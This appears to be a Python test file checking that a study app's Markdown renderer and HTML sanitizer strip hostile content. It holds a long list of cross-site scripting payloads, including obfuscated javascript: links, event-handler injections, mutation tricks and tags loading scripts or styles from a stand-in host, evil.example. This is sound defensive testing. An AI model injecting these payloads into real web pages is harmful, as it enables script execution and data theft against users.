"""Nothing that a hostile answer holds can run, restyle the app, or load anything but images."""

import re
from html.parser import HTMLParser

import pytest

from studyapp.content.renderer import render, render_html
from studyapp.content.sanitizer import sanitised
from studyapp.domain.document import Document, Image, Text
from studyapp.domain.plain_text import plain_text
from tests.support.documents import every

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" onload=alert(2)>',
    "<img/src/onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html,<b>)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<javascript://x>",
    "![x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    '![x](y.png "a" onerror="alert(1)")',
    "[[x|javascript:alert(1)]] [[javascript:alert(1)]]",
    "![[javascript:alert(1)]]",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><maction actiontype='statusline#http://evil' xlink:href='javascript:alert(1)'>x",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='http://evil.example/x.swf'></object><embed src='http://evil.example/x'>",
    "<video src='http://evil.example/x' onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio autoplay src='http://evil.example/x'>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<style>@import 'http://evil.example/x.css'; * { background: url(javascript:x) }</style>",
    "<p style='background:url(http://evil.example/x.png)'>x</p>",
    '<div style="width: expression(alert(1))">x</div>',
    "<table background='http://evil.example/x.png'><tr><td background='javascript:x'>x</table>",
    "<body onload=alert(1)>x",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>",
    "<form action='javascript:alert(1)'><input type=submit><button formaction=javascript:x>x",
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
    "<details><summary><script>alert(1)</script></summary><img src=x onerror=alert(1)></details>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?php alert(1) ?>",
    "`<img src=x onerror=alert(1)>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    </code></pre><script>alert(1)</script>",
    "$</span><script>alert(1)</script>$",
    "$$\n</div><img src=x onerror=alert(1)>\n$$",
    r"$\href{javascript:alert(1)}{x}$ $\text{<script>alert(1)</script>}$",
    "[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: <img src=x onerror=alert(1)>",
    "> [!NOTE]<script>alert(1)</script>\n> <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> | b |\n|--|--|\n"
    "| <img src=x onerror=alert(1)> | <a href=javascript:x>y</a> |",
    "# <img src=x onerror=alert(1)>",
    "- <script>alert(1)</script>\n- [x](javascript:alert(1))",
    "<a href='http://a.b' target=_blank ping='http://evil.example'>x</a>",
    "<img srcset='http://evil.example/x 2x' src='a.png' lowsrc='http://evil.example/y'>",
    "<span class='math'><script>alert(1)</script></span><sup class='footnote'>1</sup>",
    "<<script>alert(1)//<</script>",
    "<a<b onclick=alert(1)>x",
    "\x02wzxhzdk:0\x03<p>\x02wzxhzdk:0\x03</p>",
    "<p>\x00<scr\x00ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<xss:x xmlns:xss='x' onclick=alert(1)>x</xss:x>",
]

ALLOWED_TAGS = re.findall(
    r"\w+",
    "a b blockquote br caption center code dd del details div dl dt em figcaption figure h1 h2"
    " h3 h4 h5 h6 hr i img ins kbd li mark ol p pre s samp section small span strike strong sub"
    " summary sup table tbody td tfoot th thead tr tt u ul var wbr",
)
ALLOWED_ATTRIBUTES = {
    "href",
    "src",
    "data-src",
    "alt",
    "title",
    "width",
    "class",
    "start",
    "open",
    "align",
    "colspan",
    "rowspan",
}
LINK = re.compile(r"(?:https?:|mailto:|wiki:|(?![^/?#]*:))", re.IGNORECASE)
IMAGE = re.compile(r"(?:https?:|data:image/|(?![A-Za-z][\w+.-]*:))", re.IGNORECASE)


class Inspector(HTMLParser):
    """Notes whatever in a piece of HTML is not allowed."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            text = value or ""
            if name not in ALLOWED_ATTRIBUTES:
                self.faults.append(f"<{tag} {name}>")
            if name == "href" and not LINK.match(text):
                self.faults.append(f"href={text}")
            if name in ("src", "data-src") and (tag != "img" or not IMAGE.match(text)):
                self.faults.append(f"{tag} src={text}")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"<![{data}]>")


def faults(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.faults


def test_the_inspector_finds_what_it_is_for() -> None:
    for html in ("<script>", "<p onclick=x>", "<a href=javascript:x>", "<img src=javascript:x>"):
        assert faults(html)


@pytest.mark.parametrize("attack", ATTACKS)
def test_html_is_harmless(attack: str) -> None:
    assert faults(render_html(attack)) == []
    assert faults(render_html(f"text {attack} text\n\n{attack}")) == []
    assert faults(sanitised(attack)) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_document_is_harmless(attack: str) -> None:
    document: Document = render(f"{attack}\n\ntext {attack} text")
    assert all(LINK.match(text.href) for text in every(Text, document))
    assert all(IMAGE.match(image.reference) for image in every(Image, document))


@pytest.mark.parametrize(
    "kept",
    [
        '<a href="https://a.b/c?d=e&amp;f=g#h">x</a>',
        '<a href="../a%20b.md">x</a>',
        '<img src="data:image/svg+xml;base64,QUJD">',
        '<img src="a b.png" alt="x" title="y" width="20">',
        '<td align="right" colspan="2">x</td>',
        '<code class="language-c++">x</code>',
    ],
)
def test_what_an_answer_needs_is_kept(kept: str) -> None:
    html = f"<table><tbody><tr>{kept}</tr></tbody></table>" if kept.startswith("<td") else kept
    assert sanitised(html) == html


def test_files_of_a_disk_are_named_in_a_document_only() -> None:
    markdown = '<img src="file:///home/a.png"> ![](<C:\\b.png>)'
    assert [image.reference for image in every(Image, render(markdown))] == [
        "file:///home/a.png",
        "C:\\b.png",
    ]
    assert "src" not in render_html(markdown)


def test_text_around_what_is_removed_stays() -> None:
    assert plain_text(render("a <script>x</script> b <iframe>y</iframe> c")) == "a b c"
    assert plain_text(render("<form>a <input> <button>b</button></form>")) == "a b"


def test_many_entities_take_no_longer() -> None:
    html = "<p>" + "a&amp;b" * 150_000 + "</p>"
    assert sanitised(html).count("&amp;") == 150_000
